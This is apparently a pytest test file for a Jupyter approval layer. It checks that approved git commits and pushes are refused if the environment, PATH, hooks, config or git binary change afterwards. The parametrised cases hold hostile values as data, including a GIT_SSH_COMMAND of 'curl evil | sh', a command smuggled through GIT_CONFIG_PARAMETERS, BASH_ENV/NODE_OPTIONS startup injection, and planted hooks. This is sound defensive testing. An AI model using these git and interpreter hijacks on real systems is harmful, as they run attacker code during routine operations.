"""What steers git besides the repository (environment, program, config, hooks) is approved too."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from jupyter_approvals.core import errors
from jupyter_approvals.ops.git import (
    git_commit,
    git_push,
)

from ..conftest import approve, ask, request_of
from .conftest import clean_head, commit, git, stage

# -- what steers git besides the repository: environment, program, config ----------------


def hook_dir(tmp_path: Path, name: str, marker: Path) -> Path:
    """A hooks directory whose ``name`` hook leaves ``marker`` behind when it runs."""
    hooks = tmp_path / "evil-hooks"
    hooks.mkdir(exist_ok=True)
    hook = hooks / name
    hook.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    hook.chmod(0o755)
    return hooks


@pytest.mark.parametrize(
    "variables",
    [
        {"GIT_SSH_COMMAND": "sh -c 'curl evil | sh'"},
        {"GIT_CONFIG_PARAMETERS": "'core.sshcommand'='sh -c evil'"},
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.askpass", "GIT_CONFIG_VALUE_0": "x"},
        {"GIT_ASKPASS": "/tmp/askpass"},
        {"SSH_ASKPASS": "/tmp/askpass"},
        {"GIT_PROXY_COMMAND": "/tmp/proxy"},
        {"https_proxy": "http://proxy.invalid:3128"},
        {"ALL_PROXY": "socks5://proxy.invalid:1080"},
        {"LD_LIBRARY_PATH": "/nonexistent"},
        {"XDG_CONFIG_HOME": "/nonexistent"},
    ],
    ids=lambda variables: "+".join(variables),
)
def test_a_git_variable_set_after_approval_refuses_the_push(
    session, repo, origin, monkeypatch, variables
):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When a variable that steers git is set in the kernel's environment afterwards
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    # Then the run refuses: the environment is part of what was approved
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_changed_path_refuses_the_push(session, repo, origin, tmp_path, monkeypatch):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When a directory is put in front of PATH afterwards (the same git is still found)
    extra = tmp_path / "extra-bin"
    extra.mkdir()
    monkeypatch.setenv("PATH", f"{extra}:{os.environ['PATH']}")
    # Then the run refuses
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_hooks_path_set_by_environment_after_approval_refuses_the_commit(
    session, repo, tmp_path, monkeypatch
):
    # Given an approved commit
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When core.hooksPath is pointed at another hook through GIT_CONFIG_COUNT/KEY/VALUE
    marker = tmp_path / "hook-ran"
    hooks = hook_dir(tmp_path, "pre-commit", marker)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(hooks))
    # Then the run refuses, the hook never runs and nothing is committed
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert not marker.exists()
    assert clean_head(repo) == before


def test_a_hooks_path_configured_after_approval_refuses_the_push(session, repo, origin, tmp_path):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When the repository's config points core.hooksPath at a pre-push hook
    marker = tmp_path / "hook-ran"
    git(repo, "config", "core.hooksPath", str(hook_dir(tmp_path, "pre-push", marker)))
    # Then the run refuses and the hook never runs
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert not marker.exists()
    assert git(origin, "rev-parse", "main") == before


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("remote.origin.receivepack", "git-receive-pack"),
        ("url.file:///elsewhere.insteadOf", "file:///nowhere"),
        ("credential.helper", "store"),
    ],
)
def test_remote_config_changed_after_approval_refuses_the_push(session, repo, origin, key, value):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When config that steers where or how the push goes is added (the URL itself unchanged)
    git(repo, "config", key, value)
    # Then the run refuses
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_changed_git_program_refuses_the_commit(session, repo, tmp_path, monkeypatch):
    # Given a git on PATH that is a wrapper around the real one, and an approved commit
    real = shutil.which("git")
    assert real is not None
    wrapper_dir = tmp_path / "wrapper-bin"
    wrapper_dir.mkdir()
    wrapper = wrapper_dir / "git"
    wrapper.write_text(f'#!/bin/sh\nexec "{real}" "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper_dir}:{os.environ['PATH']}")
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the program at the same path is replaced afterwards by one that logs its arguments
    log = tmp_path / "wrapper.log"
    wrapper.write_text(f'#!/bin/sh\necho "$@" >> \'{log}\'\nexec "{real}" "$@"\n')
    # Then the run refuses before committing: the new program only read the repository
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert log.exists()
    assert " commit " not in log.read_text()
    assert clean_head(repo) == before


def test_the_cards_name_the_git_variables_that_are_set(session, repo, monkeypatch):
    # Given git-steering variables in the kernel's environment, one with a secret-looking name
    monkeypatch.setenv("GIT_SSH_COMMAND", "ssh -i /keys/deploy")
    monkeypatch.setenv("GIT_ACCESS_TOKEN", "s3cret-token")
    monkeypatch.setenv("https_proxy", "http://ada:s3cret-pw@proxy.example:3128")
    monkeypatch.setenv(
        "GIT_CONFIG_PARAMETERS",
        "'core.sshcommand'='ssh -v' 'http.extraheader'='Authorization: s3cret'",
    )
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "http.extraHeader")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "Authorization: Bearer s3cret")
    commit(repo, "a.txt", "a\n", "Add a")
    stage(repo, "b.txt", "b\n")
    # When a push and a commit are asked for
    cards = [
        request_of(session, ask(lambda: git_push(repo=repo))).preview,
        request_of(session, ask(lambda: git_commit("Add b", repo=repo))).preview,
    ]
    # Then each card lists them, without any secret, and leaves out the ordinary ones
    for preview in cards:
        assert "environment: GIT_SSH_COMMAND=ssh -i /keys/deploy" in preview
        assert "environment: GIT_ACCESS_TOKEN (value hidden)" in preview
        assert "environment: https_proxy=http://***@proxy.example:3128" in preview
        assert (
            "environment: GIT_CONFIG_PARAMETERS sets core.sshcommand=ssh -v, "
            "http.extraheader (value hidden)" in preview
        )
        assert "environment: GIT_CONFIG_KEY_0=http.extraHeader" in preview
        assert "environment: GIT_CONFIG_VALUE_0 (value hidden)" in preview
        assert "s3cret" not in preview
        assert "environment: PATH" not in preview
        assert "environment: GIT_CONFIG_GLOBAL=/dev/null" in preview


# -- the hooks that will run and the environment they run in -------------------------------


def write_hook(hooks: Path, name: str, body: str, mode: int = 0o755) -> Path:
    """A shell hook ``name`` in ``hooks`` running ``body``."""
    hooks.mkdir(parents=True, exist_ok=True)
    hook = hooks / name
    hook.write_text(f"#!/bin/sh\n{body}\n")
    hook.chmod(mode)
    return hook


def test_the_cards_list_the_hooks_that_will_run(session, repo, tmp_path):
    # Given an executable pre-commit hook, a commit-msg hook git would not run (not
    # executable), and a sample hook
    hooks = repo / ".git" / "hooks"
    write_hook(hooks, "pre-commit", "exit 0")
    write_hook(hooks, "commit-msg", "exit 0", mode=0o644)
    write_hook(hooks, "pre-push.sample", "exit 0")
    commit(repo, "a.txt", "a\n", "Add a")
    stage(repo, "data.csv", "a,b\n")
    # When a commit and a push are asked for
    commit_card = request_of(session, ask(lambda: git_commit("Add data", repo=repo))).preview
    push_card = request_of(session, ask(lambda: git_push(repo=repo))).preview
    # Then each card names the hooks git will run, and where it looks for them
    assert "hooks that will run: pre-commit\n" in commit_card
    assert "hooks that will run: none\n" in push_card
    assert f"git settings:\n  hooks directory: {hooks}\n" in commit_card
    assert f"git settings:\n  hooks directory: {hooks}\n" in push_card
    # And a core.hooksPath elsewhere is where the card looks
    elsewhere = tmp_path / "shared-hooks"
    write_hook(elsewhere, "pre-push", "exit 0")
    git(repo, "config", "core.hooksPath", str(elsewhere))
    push_card = request_of(session, ask(lambda: git_push(repo=repo))).preview
    assert "hooks that will run: pre-push\n" in push_card
    assert f"git settings:\n  hooks directory: {elsewhere}\n" in push_card


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("pre-commit", "edited"),
        ("commit-msg", "added"),
        ("prepare-commit-msg", "made executable"),
        ("post-commit", "edited"),
        ("reference-transaction", "added"),
    ],
)
def test_a_commit_hook_changed_after_approval_refuses_the_commit(
    session, repo, tmp_path, name, change
):
    # Given an approved commit, with a harmless hook in place unless one is added later
    hooks = repo / ".git" / "hooks"
    marker = tmp_path / "hook-ran"
    if change != "added":
        write_hook(hooks, name, "exit 0", mode=0o644 if change == "made executable" else 0o755)
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the hook is edited, added or made executable before the run
    if change == "made executable":
        (hooks / name).write_text(f"#!/bin/sh\ntouch '{marker}'\n")
        (hooks / name).chmod(0o755)
    else:
        write_hook(hooks, name, f"touch '{marker}'")
    # Then the run refuses, the hook never ran and nothing is committed
    with pytest.raises(errors.ApprovalFingerprintMismatch) as refused:
        git_commit("Add data", repo=repo)
    assert refused.value.code == "APPROVAL_FINGERPRINT_MISMATCH"
    assert not marker.exists()
    assert clean_head(repo) == before


def test_a_pre_push_hook_added_after_approval_refuses_the_push(session, repo, origin, tmp_path):
    # Given an approved push, with no pre-push hook
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When a pre-push hook appears in the repository's own hooks directory
    marker = tmp_path / "hook-ran"
    write_hook(repo / ".git" / "hooks", "pre-push", f"touch '{marker}'")
    # Then the run refuses, the hook never ran and nothing is pushed
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert not marker.exists()
    assert git(origin, "rev-parse", "main") == before


def test_an_approved_commit_runs_its_unchanged_hook(session, repo, tmp_path):
    # Given a pre-commit hook present when the commit was approved
    marker = tmp_path / "hook-ran"
    write_hook(repo / ".git" / "hooks", "pre-commit", f"touch '{marker}'")
    stage(repo, "data.csv", "a,b\n")
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the approved commit runs
    sha = git_commit("Add data", repo=repo)
    # Then the hook ran as usual and the commit was made
    assert marker.exists()
    assert clean_head(repo) == sha


@pytest.mark.parametrize("name", ["BASH_ENV", "PYTHONPATH", "PERL5OPT", "NODE_OPTIONS"])
def test_any_variable_set_after_approval_refuses_the_commit(
    session, repo, tmp_path, monkeypatch, name
):
    # Given an approved commit whose pre-commit hook is a shell script
    marker = tmp_path / "hook-ran"
    write_hook(repo / ".git" / "hooks", "pre-commit", "exit 0")
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When a variable git itself ignores, but a hook's interpreter obeys, is set afterwards
    startup = tmp_path / "startup"
    startup.write_text(f"touch '{marker}'\n")
    monkeypatch.setenv(name, str(startup))
    # Then the run refuses: the whole environment git passes on was approved
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert not marker.exists()
    assert clean_head(repo) == before


def test_a_variable_removed_after_approval_refuses_the_push(session, repo, origin, monkeypatch):
    # Given an approved push while the kernel has an unrelated variable set
    monkeypatch.setenv("SOME_SETTING", "1")
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When the variable is removed before the run
    monkeypatch.delenv("SOME_SETTING")
    # Then the run refuses and nothing is pushed
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before
